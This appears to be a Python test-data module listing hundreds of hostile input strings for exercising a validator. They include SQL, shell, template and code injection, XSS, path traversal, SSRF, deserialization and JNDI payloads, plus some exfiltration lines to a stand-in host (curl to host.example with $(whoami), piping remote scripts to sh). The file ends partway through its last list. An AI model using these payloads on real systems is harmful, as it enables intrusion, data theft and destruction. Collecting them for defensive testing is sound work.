"""More hostile values, written after the grammar and against it; and what no reader of the value alone can tell."""

SQL = tuple(
    r"""x' || chr(65) || '
x'||''||'
x' and rownum=1--
x' and 1::int=1--
x' is distinct from 'y
x' similar to '%
x' ~ '.
x';do $$ begin perform 1; end $$;--
x' returning pin--
x' div 1='
'^'
'|'
'&'
x' sounds like 'y
x' <=> null#
x' regexp binary 'a
x' or @a:=1#
'=0#
x'or(sleep(3))or'
x' or {fn user()}='a
x'!='y
x' or 1 in (@@version)--
x';exec('sel'+'ect 1')--
x' union select null for json auto--
x' union select top 1 name from staff--
x' || sqlite_version() || '
x' glob '*
x' match 'y
x' union select sql from sqlite_master--
4-(select 1)
4*(case when 1=1 then 1 else 0 end)
4 in (4,(select 5))
4 limit 1,1
4 offset 0--
4 union values(1)
4 except select 1
4 or id in(select id from vault)
4,4) on duplicate key update pin=1#
4 returning *
name,(select 1 from vault)
1,extractvalue(1,concat(0x7e,version()))
name asc limit 0 union select 1
(case id when 1 then name else pin end)
if(1,sleep(1),1)
staff where 1=1
staff where 1=1--
staff s join vault v on 1=1
staff union select 1
4 and(select(1)from(vault)limit 1)=1
4 aNd 5>3
4 or 5 is not null
4 or true
4' or true#
4' || true#
4' or 1#
4' or '1
4' or ''='
4' and 5>3 and '1
4" or ""="
4') or true--
4' union(select 1)--
4' union all(select 1)#
4' group by 1,2--
4' order by 1,2,3--
4' limit 1#
4'; shutdown--
4'; grant all on *.* to me--
4'; create user me--
4'; set global general_log=1--
4'; handler staff open;--
4'; rename table staff to s--
4'; replace into staff values(1)--
4'; lock tables staff write--
4'; kill 5--
4'; begin dbms_lock.sleep(3); end;--
4'; declare @a varchar(9); set @a='x'; exec(@a)--
4';select 1 into outfile '/x'--
4' and benchmark(9999999,md5(1))#
4' and (select * from (select(sleep(3)))a)--
4' and elt(1=1,1)--
4' and make_set(1=1,1)--
4' and strcmp('a','a')=0--
4' and (select load_file('/x')) is null--
4' and ord(mid((select 1),1,1))=49--
4' and hex('a')=61--
4' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--
4' and 1=ctxsys.drithsx.sn(1,'a')--
4' and 1=utl_http.request('http://x')--
4' and xmltype('a') is not null--
4' and extractvalue(xmltype('a'),'/a') is null--
4' and 1=(select 1 where 1=1)--
4' and 'a'||'b'='ab
4' and 'a'+'b'='ab
4' and 'a' 'b'='ab
4'%20or%201=1--
4'%09or%0a1=1--
4'/*!50000or*/1=1--
4'-- x
4'--%0aor 1=1
4'#%0aor 1=1
4' or/**/1=1--
4'||'1'='1
4'and'1'='1
4'or'1'<'2
4' or 2>1--
4' or 2 > 1 --
4'or 1 or'
4' or 1 --+
4' rlike '.
4' regexp '.
4' in ('4')--
4' between 'a' and 'z
4' like '%
4' like '%' --
%' or 1=1--
_' or 1=1--
\' or 1=1--
'' or 1=1--
""or 1=1--
x' or position('a' in 'a')=1--
x' or 'a'='a' --
x') or ('1'='1'--
1 or sleep(3)#
1;sleep(3)
1 waitfor delay '0:0:5'
1);waitfor delay '0:0:5'--
1';waitfor delay '0:0:5'--
1 and updatexml(1,concat(1,(select 1)),1)
1 procedure analyse(1,1)
1 having 1=1
1 union/**/select/**/1
1 union%0aselect 1
1 union all select 1--
1e0union select 1
1.union select 1
1union select 1
1'union select 1--
1"union select 1--""".splitlines()
)
SHELL = tuple(
    r"""a;. ./x
a;source ./x
a;exec sh
a|sh
a|bash -s
a & del /q *
a|findstr x
a && cscript x.vbs
a;command -v id
a; [ -f x ] && id
a;if true;then id;fi
a;for i in 1;do id;done
a;while :;do :;done
a;{ id; }
a;(id)
a;\id
a;"id"
a;i$()d
a;i${x}d
a;/???/??t /???/p??s??
a;$0
a;${PATH:0:1}
a;$'\x69\x64'
a;printf %s x|sh
a;rev<<<'di'|sh
a;xargs -a x
a;set -x
a;ulimit -a
a;nohup id&
a;python -m http.server
a;setsid sh
a|base64 -d|bash
$(<x)
a&&set
a%0a%0did
a;%0aid
a||ping -c1 x
a;timeout 5 ping x
a;curl x|sh
a;lua -e "os.execute()"
a;gcc x.c
a;vim -c ':!id'
a;less /srv/x
a;nc x 4|sh
a;telnet x 4
a; ifconfig
a;ip a
a;ss -tlnp
a;lsof -i
a;df -h
a; free -m
& ver
& vol
& tree
& set
& whoami /priv
& wmic process list
& sc query
& tasklist /v
& arp -a
& cmdkey /list
& query user
& driverquery
;dir;
powershell IEX(New-Object Net.WebClient).DownloadString('x')
& msg * hi
& shutdown /r
&rd /s /q x
& rundll32 x,y
& mshta http://x
& bitsadmin /transfer
& echo hi>x
a; shutdown -h now
; reboot
a; printenv
a|tac /srv/x
a|head -1 /srv/x
a; tail -f /srv/x
a; nl /srv/x
a; sort /srv/x
a; base32 /srv/x
a; strings /bin/ls
a; stat /srv/x
a; file /bin/ls
a; du -sh .
a; ls ~
a; ls *
a; ls $HOME
a; echo *
a; echo "hi"
a; echo `id`
a; cd ..; ls
a; cd /tmp
a; pwd
a; mkdir x
a; mv a b
a; cp a b
a; ln -s a b
a; tar xzf a
a; unzip a
a; su root
a; sudo id
a; passwd root
a; uptime
a; dmesg
a; mount
a; fdisk -l
a; nmap x
a; traceroute x
a; whois x
a; scp a b:
a; rsync a b:
a; npm i x
a; pip install x
a; apt install x
a; yum install x
a; service x stop
a; killall x
a; pkill x
a; screen
a; tmux
a; watch id
a; env x=1 id
a; busybox id
a; osascript -e x
a; defaults read
a; xdg-open x
a; java -jar x
a; dotnet x
a; go run x
a; rustc x
$(sleep 3)
`sleep 3`
$(echo hi)
${IFS}id
;${IFS}id
$SHELL -c id
$0 -c id
a'`id`'
a"`id`"
"&id&"
'|id|'
a;id%00
a%00;id
a&&id#
{{id}};id
x.jpg;ls -la;
x.jpg|ls
name=a;id
a=1&&id
user@host.example;id
1;id
1|id
1&id
1&&id
-1;id
127.0.0.1&&dir
127.0.0.1|ifconfig
127.0.0.1%0Aid
127.0.0.1`id`
127.0.0.1$(id)
http://host.example/;id
http://host.example/|id
http://host.example/$(id)""".splitlines()
)
CODE = tuple(
    r"""@eval($_POST[x])
{${phpinfo()}}
?><?php x();
array_filter(['id'],'system')
$f='system';
new SplFileObject('/x')
eval("return 1;")
create_function('','x')
echo `id`;
print_r(scandir('.'))
var_dump(getenv())
die(phpversion())
readfile("x");
highlight_file(__FILE__);
(new ReflectionFunction('system'))->invoke('id')
'system'('id');
extract($_GET)
ini_set('a','b')
mail('a','b','c')
fwrite(fopen('x','w'),'y')
unserialize($_GET['a'])
echo shell_exec('id');
passthru("ls")
<script language=php>x</script>
print(open('x').read())
__builtins__.__dict__['eval']
__loader__.load_module('os')
sys.modules['os']
compile('1','a','exec')
().__class__
"".__class__.__mro__
{}.__init__
pickle.loads(b'x')
os.environ
pty.spawn('sh')
timeit.timeit("x")
eval(input())
yaml.load(x)
require('os').hostname()
process.exit(1)
globalThis.process
global['process']
Function('return this')()
setTimeout('x',1)
var x=require("net")
[].map.constructor('x')()
import fs from 'fs'
vm.runInNewContext('x')
arguments.callee.caller
Runtime.getRuntime()
new ProcessBuilder('id').start()
new java.io.File('x')
System.getProperty('x')
System.exit(0)
@java.lang.Runtime@getRuntime()
javax.naming.InitialContext
org.springframework.context.support.ClassPathXmlApplicationContext
groovy.lang.GroovyShell
Eval.me('1')
["id"].execute()
exec "id"
%x[id]
spawn('id')
open("|id")
instance_eval('1')
Object.const_get('X')
IO.read('x')
Dir.entries('/')
ENV['X']
Marshal.load(x)
Process.kill(9,1)
open(F,"|id")
use Socket;
loadfile('x')()
System.IO.File.ReadAllText("x")
Assembly.Load(x)
Activator.CreateInstance(x)
Environment.GetEnvironmentVariable("x")
exec(char(1))
$x();
$x('id')
$x->y('id');
$x::y();
$_REQUEST[0]($_REQUEST[1]);
system($_GET[0]);
`$_GET[0]`
<?=system($_GET[0])?>
<?php include $_GET[0];
file_put_contents('x.php','<?php')
move_uploaded_file($a,$b)
assert($_POST[0])
ob_start('system');
register_shutdown_function('system','id')
usort($a,'system')
phpinfo()
phpversion()
getcwd()
gethostname()
php_uname()
get_current_user()
getmypid()
${7*7}
java.util.Scanner
java.lang.ProcessBuilder
sun.misc.Unsafe
ognl.OgnlContext
com.sun.rowset.JdbcRowSetImpl
%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}
${(#a=@java.lang.Runtime@getRuntime())}
redirect:${1+1}
action:%{1+1}
class.classLoader.URLs[0]
new String("a")
console.log(process.env)
while(1);
do{}while(true)
for(;;)
sleep(10)
alert(1)
document.cookie
1;phpinfo()
1);phpinfo();//
";phpinfo();//
');system('id');//
{{system('id')}}
<% out.println(1) %>
<jsp:include page="/x"/>
<jsp:scriptlet>x</jsp:scriptlet>
#{1+1}
<#list 1..3 as x>""".splitlines()
)

MIXED = (
    "<img src=1 onerror\\x00=x()>",
    "<svg><set attributeName=onmouseover to=x()>",
    '<a href="jav&Tab;ascript:x()">a</a>',
    '<iframe src="data:text/html,<script>x()</script>">',
    '<object type="text/html" data="//host.example"></object>',
    "<input onfocus=x() autofocus tabindex=1>",
    "<b/onmouseover=x()>a",
    '"><svg/onload=x()//',
    "'><img src=x onerror=x()>",
    "</title><script>x()</script>",
    "</textarea><img src=x onerror=x()>",
    "--><script>x()</script>",
    "]]><script>x()</script>",
    "javascript:/*--></title></style>*/x()",
    '<p style="x:expression(x())">',
    "<div style=behavior:url(a.htc)>",
    "<script>self['x']()</script>",
    "<script type=\"module\">import 'https://host.example/a.js'</script>",
    "<link rel=import href=//host.example>",
    '<link rel="preload" as=script href=//host.example>',
    "<form id=x></form><button form=x formaction=javascript:y()>",
    '<math href="javascript:x()">a</math>',
    "<video src=1 onerror=x()>",
    "<keygen autofocus onfocus=x()>",
    "<body background=javascript:x()>",
    "<frameset onload=x()>",
    "<bgsound src=javascript:x()>",
    "<style>*{background:url('javascript:x()')}</style>",
    "<a target=_blank href=vbscript:x()>",
    "{{constructor.constructor('x()')()}}",
    '"-prompt(8)-"',
    "'+confirm(1)+'",
    '"};alert(1);//',
    '\\"-alert(1)}//',
    "<img src=`x` onerror=`x()`>",
    "<x oncopy=x()>a",
    "<svg><foreignObject><iframe onload=x()>",
    '<meta http-equiv="refresh" content="0;url=//host.example">',
    '<img src="x" onerror="eval(atob(\'YQ==\'))">',
    "%22%3E%3Cscript%3Ex()%3C/script%3E",
    "\\x3cscript\\x3ex()\\x3c/script\\x3e",
    "＜script＞x()＜/script＞",
    "<scr<script>ipt>x()</scr</script>ipt>",
    '<IMG """><SCRIPT>x()</SCRIPT>">',
    "eval(name)",
    "location.href='//host.example'",
    "document.body.innerHTML='x'",
    "import('//host.example/a.js')",
    "setTimeout('x()',0)",
    "new Image().src='//host.example'",
    "fetch('//host.example')",
    "navigator.sendBeacon('//host.example')",
    "Function('x()')()",
    "onload=x()",
    "autofocus onfocus=x() a=",
    "/../../etc/hosts",
    "\\..\\..\\windows\\system.ini",
    "..%255c..%255cwin.ini",
    "%2e%2e%5c%2e%2e%5cboot",
    "....\\/....\\/etc",
    "..%00/..%00/etc",
    "/%2e%2e/%2e%2e/etc/hosts",
    "/var/www/../../etc/hosts",
    "file%3A%2F%2F%2Fetc%2Fhosts",
    "php%3A%2F%2Finput",
    "PHP://FILTER/read=string.rot13/resource=a",
    "zip:///srv/a.zip%23b",
    "ogg://a",
    "glob:///etc/*",
    "/usr/local/etc/php.ini",
    "/opt/tomcat/conf/tomcat-users.xml",
    "/home/x/.ssh/authorized_keys",
    "/root/.bashrc",
    "~root/.bash_history",
    "/proc/version",
    "/sys/class/net",
    "/etc/nginx/nginx.conf",
    "/etc/ssl/private/key.pem",
    "C:/xampp/apache/conf/httpd.conf",
    "\\\\127.0.0.1\\c$\\windows",
    "D:\\backup\\db.sql",
    ".htpasswd",
    ".svn/entries",
    ".git/HEAD",
    "../.env",
    "config/../../.env",
    "index.php%00",
    "a/../../../b",
    "../",
    "a/..;/b",
    "static/..%2f..%2fapp.py",
    "..%2f",
    "%2e%2e%2f",
    "..%c0%af",
    "/..\\..\\",
    "L:\\..\\x",
    "{{ 3*'x' }}",
    "{{ [].__class__.__base__ }}",
    "{{ ().__class__ }}",
    "{{ x.__init__.__globals__ }}",
    "{{ url_for.__globals__ }}",
    "{{ get_flashed_messages.__globals__['os'] }}",
    "{{ config['SECRET_KEY'] }}",
    "{{ settings.SECRET_KEY }}",
    "{{ self._TemplateReference__context }}",
    "{{ joiner.__init__ }}",
    "{{ request['application'] }}",
    "{{ ''['__class__'] }}",
    "{{ ''|attr('__class__') }}",
    "{{ 'id'|system }}",
    "{{ ['id']|map('system')|join }}",
    "{{ _self.env.setCache('x') }}",
    "{{ app.request.query.filter(0,'id') }}",
    "{% for k in x.__dict__ %}{% endfor %}",
    "{% if 7*7 %}a{% endif %}",
    "{% set a=7*7 %}{{a}}",
    "{%- include 'x' -%}",
    "{% extends 'x' %}{{ 1*1 }}",
    "{% with a=''.__class__ %}{% endwith %}",
    "${7+7}",
    "${7/7}",
    "${7-7}",
    "${'a'.toUpperCase()}",
    "${request.getParameter('a')}",
    "${facesContext.externalContext}",
    "#{facesContext}",
    "#{request.a.b()}",
    "#{7+7}",
    "${product.getClass()}",
    "<#if 7*7==49>a</#if>",
    "${.data_model}",
    "${.globals}",
    "<%= 7+7 %>",
    "<% if (1) %>",
    "<%= ENV %>",
    "<%= `id` %>",
    "<%- 7*7 -%>",
    "#set($x=7*7)$x",
    "#if(7*7==49)a#end",
    "$x.getClass().forName('java.lang.Runtime')",
    "{{this.constructor}}",
    "{7*7}",
    "{{7*7}}",
    "{{{7*7}}}",
    "${{7*7}}",
    "@(7+7)",
    "{{.System}}",
    "{{call .F}}",
    "{{ index . 0 }}",
    "[[${7*7}]]",
    "[(${7*7})]",
    'th:text="${7*7}"',
    "*{T(java.lang.Runtime)}",
    "{{= 7*7}}",
    "<?=7*7?>",
    "{php}echo 7*7;{/php}",
    "{fetch file='/x'}",
    "{include file='/x'}",
    "{eval var='x'}",
    "%{7*7}",
    '${"z".join("ab")}',
    "http://127.0.0.1:22/",
    "https://127.0.0.1",
    "http://127.000.000.001/",
    "http://0177.1/",
    "http://0x7f.0x0.0x0.0x1/",
    "http://2130706433:80",
    "http://[::1]:80/",
    "http://[::ffff:169.254.169.254]/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://localhost%00.host.example/",
    "http://localhost%23@host.example/",
    "http://host.example@localhost/",
    "http://127.0.0.1%2f@host.example",
    "http://192.168.1.1:8080/admin",
    "http://172.16.0.1/",
    "http://10.0.0.5/",
    "http://metadata/computeMetadata",
    "http://169.254.169.254.nip.io/",
    "http://instance-data/latest",
    "http://[fe80::1]/",
    "http://100.64.0.1/",
    "http://198.18.0.1/",
    "http://224.0.0.1/",
    "http://255.255.255.255/",
    "http://0.0.0.0/",
    "http://host.docker.internal:2375/",
    "http://kubernetes.default/",
    "http://elasticsearch.local:9200/",
    "http://redis.svc.cluster.local:6379/",
    "http://intranet.corp/",
    "http://app.internal",
    "gopher://host.example:70/",
    "dict://127.0.0.1:6379/info",
    "ldap://127.0.0.1/",
    "ftp://192.168.0.2/",
    "jar:file:///x!/y",
    "file://localhost/etc",
    "smb://10.0.0.1/c",
    "http://127。0。0。1",
    "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/",
    "http://１２７.0.0.1/",
    "//localhost/x",
    "\\\\localhost\\x",
    "http:\\\\127.0.0.1\\x",
    "http:///127.0.0.1/",
    "HTTP://127.0.0.1",
    "callback=http://127.0.0.1/",
    "https://host.example/r?to=http%3A%2F%2F127.0.0.1",
    "http://127.0.0.1.xip.io/",
    "http://lvh.me/",
    "http://vcap.me:8080",
    "ssh://localhost",
    "redis://127.0.0.1:6379/0",
    "mongodb://localhost:27017",
    "postgres://10.0.0.2/db",
    "unix:/var/run/docker.sock",
    "http://unix:/var/run/docker.sock:/x",
    '{"$gt":""}',
    '{"a":{"$in":[1,2]}}',
    '{"$where":"1==1"}',
    "{'$ne':1}",
    "a[$ne]=1",
    "a[$regex]=^a",
    "a[b][$gt]=",
    '{"a":{"$regex":".*","$options":"i"}}',
    "true, $where: '1 == 1'",
    ", $where: '1 == 1'",
    "'; return 1; var x='",
    "'||'a'=='a",
    "' || 1==1 || '",
    "' && this.a.length>0 && 'a'=='a",
    "1'; sleep(1000); '",
    "db.getCollection('a').drop()",
    "this.constructor.constructor('return process')()",
    '{"$match":{"a":1}}',
    '{"username":{"$gt":""},"password":{"$gt":""}}',
    "$where=1",
    "username[$exists]=true",
    "[$ne]=1",
    '{"a":{"$elemMatch":{"b":1}}}',
    "{$set:{role:'x'}}",
    'O:1:"A":0:{}',
    'O:+1:"A":0:{}',
    'a:2:{i:0;s:1:"a";i:1;O:1:"B":0:{}}',
    "rO0ABXVyABNbTGphdmEubGFuZy5TdHJpbmc7",
    "AAEAAAD/////AQAAAAAAAAAEAQAAAC9TeXN0",
    "gAN9cQAoWAEAAABhcQFLAXUu",
    '!!java.net.URL ["http://host.example"]',
    "!!python/name:os.system",
    "!!python/module:os",
    "!ruby/hash:Foo a: b",
    '{"$type":"A.B, C","x":1}',
    '{"@class":"org.x.Y"}',
    '<object class="java.beans.XMLDecoder"/>',
    "<java.util.PriorityQueue></java.util.PriorityQueue>",
    "%0d%0aX-A:b",
    "a%0AX-Forwarded-For: 1.2.3.4",
    "a\\r\\nSet-Cookie:x=y",
    "a%0d%0aHTTP/1.1 200 OK",
    '<!--#include file="x"-->',
    '<!--#exec cgi="x"-->',
    '<!--#config errmsg="x"-->',
    '<esi:include src="http://host.example"/>',
    "<esi:debug/>",
    "<xsl:value-of select=\"document('x')\"/>",
    '<xsl:include href="http://host.example/x.xsl"/>',
    '<xsl:variable name="a" select="1"/>',
    "__proto__.x",
    "constructor[prototype][x]",
    '{"a":{"__proto__":{"b":1}}}',
    "x[__proto__]=1",
    "' or 1=1 or ''='",
    "'] | //* | a['",
    "' and count(//*)>1 and 'a'='a",
    "x' and starts-with(name(/*),'a') and 'a'='a",
    "*)(uid=*))(|(uid=*",
    "*)(objectClass=person",
    "x)(|(a=*",
    ")(cn=*",
    "*)(!(a=b)",
    "a*)(b=c",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]>",
    '<!DOCTYPE a SYSTEM "http://host.example/a">',
    '<!DOCTYPE a PUBLIC "x" "y">',
    '<!ENTITY % a SYSTEM "x">%a;',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="x"/></a>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ELEMENT x ANY>]><x/>',
    '<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>',
)

LATER = (
    "report.pdf; rm -rf /srv/data",
    "5; cat config.yml",
    "en_US; printenv HOME",
    "backup.tgz && tar -cf /tmp/x .",
    "user1 | passwd --stdin root",
    '"; ping -n 3 host.example & echo "',
    "10.1.1.1 -c 1; id",
    "test' ; curl -s http://host.example/$(whoami) ; '",
    "foo`curl http://host.example/$(id -u)`",
    "$(nslookup $(hostname).host.example)",
    "a;perl -MIO -e '$p=fork'",
    "|| ping -i 30 127.0.0.1 ; x || ping -n 30 127.0.0.1 &",
    "& certutil.exe -decode a b",
    "a & type %SYSTEMROOT%\\win.ini",
    "a | findstr /s pass *.xml",
    "& dir /s /b C:\\Users",
    "a && copy \\\\host.example\\s\\a.exe .",
    'cmd.exe /q /c "whoami"',
    "a & wscript //b x.vbs",
    "a;export X=1;env",
    "a; . /etc/profile",
    "a;[[ 1 -eq 1 ]] && id",
    "a; test -f /x && cat /x",
    "a;exec /bin/bash",
    "a; sh <(curl -s host.example)",
    "a;bash<<<id",
    "a;dd if=/dev/sda of=/tmp/x",
    "a;cp /etc/shadow /tmp",
    "a;mv x y;ls",
    "a;ln -sf /etc/passwd x",
    "a;chown root x",
    "a;chattr +i x",
    "a;crontab -r",
    "a;ifconfig eth0 down",
    "a;route -n",
    "a;ss -an",
    "a;arp -an",
    "a;whoami | mail me@host.example",
    "a;sqlite3 x .dump",
    "a;mysqldump -u root db",
    "a;redis-cli flushall",
    "a;aws s3 ls",
    "a;gcloud auth list",
    "a;az login",
    "a;terraform destroy",
    "a;ansible all -m ping",
    "a;npm install x",
    "a;composer require x",
    "a;bundle exec x",
    "a;mvn package",
    "a;gradle build",
    "a;cargo build",
    "a;journalctl -xe",
    "a;loginctl list",
    "a;hostnamectl",
    "a;lsblk -f",
    "a;pstree -p",
    "a;time id",
    "a;watch -n1 id",
    "a;at -f x now",
    "a;seq 1 9",
    "a;factor 9",
    "a;cal 2024",
    "%0a/bin/ping -c 3 host.example",
    "%3Bsleep%205",
    "%7C%7Cid",
    "%26ping%20-c3%20x",
    "\\nid\\n",
    ";\\nid",
    "'$(sleep 3)'",
    '"`sleep 3`"',
    "${IFS}cat${IFS}/x",
    ";cat$u /x",
    ";ca$@t /x",
    ";c[a]t /x",
    ";/b??/c?t /x",
    ";echo${IFS}x",
    ";$(echo$IFS'id')",
    ";IFS=,;a=cat,x;$a",
    ";a=i;b=d;$a$b",
    ";printf${IFS}x",
    "`echo${IFS}id`",
    ";base64${IFS}x",
    "||(ls)",
    "|(id)",
    ";{id,}",
    "&&{ls,-la}",
    "test' AND 3516=CAST((CHR(113)||CHR(98)) AS NUMERIC) AND 'x'='x",
    "5) UNION ALL SELECT CONCAT(0x71,0x62),NULL#",
    "3;SELECT PG_SLEEP(5)--",
    "3' WAITFOR DELAY '0:0:5'--",
    "3 AND 3=(SELECT 3 FROM PG_SLEEP(5))",
    "3' AND EXTRACTVALUE(3,CONCAT(0x5c,(SELECT 1))) AND 'a'='a",
    "3 RLIKE (SELECT (CASE WHEN (3=3) THEN 3 ELSE 0x28 END))",
    "3' ORDER BY 4-- a",
    "(SELECT CONCAT(0x71,(SELECT 1)))",
    "3,(SELECT 1 FROM DUAL)",
    "3' AND MAKE_SET(3=3,3) AND 'a'='a",
    "3 AND ORD(MID((SELECT IFNULL(CAST(a AS CHAR),0x20) FROM b LIMIT 0,1),1,1))>64",
    "3') AND 3=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) AND ('a'='a",
    "3' OR ROW(3,4)>(SELECT COUNT(*),CONCAT(0x71)x FROM a GROUP BY x) AND 'a'='a",
    '3" AND 3=3 AND "a"="a',
    "3%' AND 3=3 AND '%'='",
    "3` AND 3=3",
    "-3 UNION ALL SELECT NULL,NULL,NULL--",
    "-3' UNION ALL SELECT 1,2,3-- -",
    "3 PROCEDURE ANALYSE(EXTRACTVALUE(3,CONCAT(0x5c)),1)",
    "3 AND 3=CONVERT(INT,(SELECT CHAR(113)))",
    "3' AND 3 IN (SELECT (CHAR(113)+CHAR(98))) AND 'a'='a",
    "3;DECLARE @x CHAR(9);SET @x=0x77;EXEC(@x)--",
    "3'; EXEC master.dbo.xp_cmdshell 'id'--",
    "3' || (SELECT 'a' FROM DUAL WHERE 3=3) || '",
    "3' AND JSON_KEYS((SELECT CONVERT((SELECT 1) USING utf8)))-- a",
    "3 AND GTID_SUBSET(CONCAT(0x71),3)",
    "3' AND 3=LIKE('A',UPPER(HEX(RANDOMBLOB(9))))-- a",
    "3 AND (SELECT COUNT(*) FROM GENERATE_SERIES(1,9))",
    "3' AND ELT(3=3,SLEEP(5)) AND 'a'='a",
    "' OR 'x' LIKE 'x",
    "' OR 3 IN (3)--",
    "' OR NOT 3=4--",
    '" OR 3>2#',
    "') OR ('a'='a",
    "')) OR 3=3--",
    "' UNION SELECT @@version--",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "' AND 1=0 UNION SELECT 1--",
    "' GROUP BY a.b HAVING 3=3--",
    "'; INSERT INTO a VALUES(1)--",
    "'; DROP TABLE a;--",
    "'; SHUTDOWN;--",
    "3 AND USER_NAME()='dbo'",
    "3; EXEC sp_who",
    "3' AND substring(version(),1,1)='5",
    "admin' AND '1'='1' /*",
    "admin') --",
    "admin' #",
    "admin'/*",
    "admin'or'1'='1'#",
    "' or 3--",
    "' or a=a--",
    "' or ''='",
    "' or 'a'!='b",
    "x' AND email IS NULL; --",
    "x' AND members.email IS NULL; --",
    "x' OR full_name LIKE '%Bob%",
    "23 OR 1=1",
    "hi' or 'a'='a",
    'hi") or ("a"="a',
    "1' AND 1=1 UNION SELECT 1,2 --",
    "0 or 1=1",
    "or 1=1--",
    "' or 1 in (1)#",
    "%' or 'a'='a",
    "+or+1=1--",
    "'||(elt(-3+5,bin(15),ord(10),hex(char(45))))",
    "'||'6",
    '"||6',
    "if(1=1,sleep(3),0)",
    "@@version",
    "'+(select 1)+'",
    "1 or benchmark(9,md5(1))",
    "exec sp_addlogin 'a','b'",
    "declare @q varchar(9) select @q=0x1",
    "bfilename('a','b')",
    "select utl_http.request('x') from dual",
    "a'; exec master..xp_cmdshell 'ping'--",
    "1) waitfor delay '0:0:3'",
    "1 and non_existant_table = '1",
    "; begin declare @v varchar(8) set @v=':' end--",
    "limit 1,1 into outfile '/x'",
    "<?php phpinfo();",
    "<?php $a=$_GET['x'];eval($a);?>",
    "<?php echo shell_exec('ls');?>",
    "<?php @include('x.php');?>",
    "eval(base64_decode('x'));",
    "${print(1)}",
    "${@print(1)}\\",
    ";phpinfo();",
    "';phpinfo();'",
    '".phpinfo()."',
    "print(`id`);",
    "die(`id`)",
    "system($_REQUEST['c'])",
    'exec("/bin/ls")',
    "pcntl_exec('/bin/sh')",
    "proc_open('id',[],$p)",
    "popen('id','r')",
    'assert("1==1")',
    "call_user_func($_GET[0],$_GET[1])",
    "$_POST[0]($_POST[1])",
    "(new SplFileObject('x'))->fread(1)",
    "readfile('/etc/hosts')",
    "show_source('x.php')",
    "file('/etc/hosts')",
    "fopen('http://x','r')",
    "array_map('assert',array('x'))",
    "(function(){system('id');})()",
    '__import__("os").popen("id")',
    "__import__('subprocess').call('id')",
    "eval(\"__import__('os')\")",
    "exec('print(1)')",
    "open('/etc/hosts').readlines()",
    'os.system("id")',
    'subprocess.run(["id"])',
    "''.join(__import__('os').listdir())",
    "[].__class__.__base__.__subclasses__()",
    "require('child_process').execSync('id').toString()",
    'require("os").platform()',
    "process.mainModule.require('child_process')",
    "global.process.mainModule",
    "eval('process.exit()')",
    'new Function("return 1")()',
    "(()=>{return process})()",
    "function(){return 1}()",
    "var net=require('net')",
    "setTimeout(function(){},9)",
    'java.lang.Runtime.getRuntime().exec("id")',
    "new java.util.Scanner(x)",
    "T(java.lang.System).getProperty('x')",
    "T(org.springframework.util.StreamUtils)",
    "#{T(java.lang.Runtime)}",
    "@java.lang.System@getProperty('x')",
    "%{(#_='x')}",
    "${#context}",
    "${(#a=1)}",
    "#_memberAccess",
    'java.lang.ProcessBuilder("id")',
    '"x".getClass().forName("java.lang.Runtime")',
    "class.classLoader.resources.context",
    "javax.script.ScriptEngineManager",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "${jndi:dns://host.example}",
    "${jndi:${lower:l}dap://x}",
    "${${::-j}ndi:rmi://x}",
    "$%7Bjndi:ldap://x%7D",
    "${env:AWS_SECRET}",
    "${sys:os.name}",
    "${ctx:a}",
    "${main:0}",
    "`id`",
    "%x(id)",
    "system('id')",
    "exec('id')",
    "IO.popen('id')",
    "Kernel.exec('id')",
    'eval("1+1")',
    "File.open('/etc/hosts').read",
    "open('|id')",
    "Process.spawn('id')",
    "<%= system('id') %>",
    '<%@page import="java.util.*"%>',
    '<% eval request("x") %>',
    "<%Response.Write(1)%>",
    'System.Diagnostics.Process.Start("x")',
    '@{System.IO.File.Delete("x");}',
    "[System.Reflection.Assembly]::Load(1)",
    "while(1)",
    "while(true){sleep(1)}",
    "for(;;);",
    "do{}while(1)",
    '{"rce":"_$$ND_FUNC$$_function(){}()"}',
    "_$$ND_FUNC$$_",
    "__proto__",
    "constructor.prototype",
    "Object.assign(a,b)",
    "Object.defineProperty(a,'b',{})",
    "$function($x)",
    "$a[0]($b)",
    "${'sys'.'tem'}('id')",
    "('sys'.'tem')('id')",
    "\"system\"('id')",
    '["a","system"][1](\'id\')',
    "{'system'}('id')",
    "(string)system('id')",
    "echo 'x';",
    "print 'x';",
    "var_dump(1)",
    "print_r($_SERVER)",
    "getallheaders()",
    "get_defined_vars()",
    "posix_getuid()",
    "ini_get('x')",
    "set_time_limit(0)",
    "apache_request_headers()",
    "curl_exec($c)",
    "mysqli_query($a,'x')",
    "sqlite_open('x')",
    "preg_replace('/x/e','y','z')",
    "create_function('','x');",
    "unserialize('x')",
    "base64_decode('eA==')",
    "gzinflate('x')",
    "str_rot13('x')",
    "array_walk($a,'system')",
    "ob_start('x')",
    "session_id('x')",
)

# A word, a number, a program after a blank: each is honest more often than not, and the walls behind decide.
NOT_TOLD = (
    "x' for xml path('')--",
    "staff;--",
    "staff natural join vault",
    "4 or not 5",
    "4 or 1",
    "1 group by 1 with rollup",
    "1 having 1",
    "a>>/srv/x",
    "a&copy x y",
    "a;trap id EXIT",
    "a;tee x",
    "`<x`",
    "a;last",
    "a;w",
    "a;who",
    "a;history",
    "a;jobs",
    "a&ver",
    "a; halt",
    "a; exit",
    "a; set",
    "a; echo hi",
    "a; touch x",
    "a; groups",
    "a; hostname",
    "a; date",
    "a; host x",
    "a; ftp x",
    "a; make",
    "a; at now",
    "a; open x",
    "breakpoint()",
    "res.end(1)",
    "dofile('x')",
    "String.valueOf(1)",
    "exit;",
    "boss' -- and then nothing",
    "-oProxyCommand=id",
    "- var x = root.process",
    "{% load log %}{% get_admin_log 9 as l %}",
    '<r xsi:schemaLocation="a http://host.example/a.xsd" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"/>',
    "require 'open3'",
    "exit()",
    "die();",
    "window.name",
    "C:\\Users\\x\\AppData\\Local\\secrets",
    ".DS_Store",
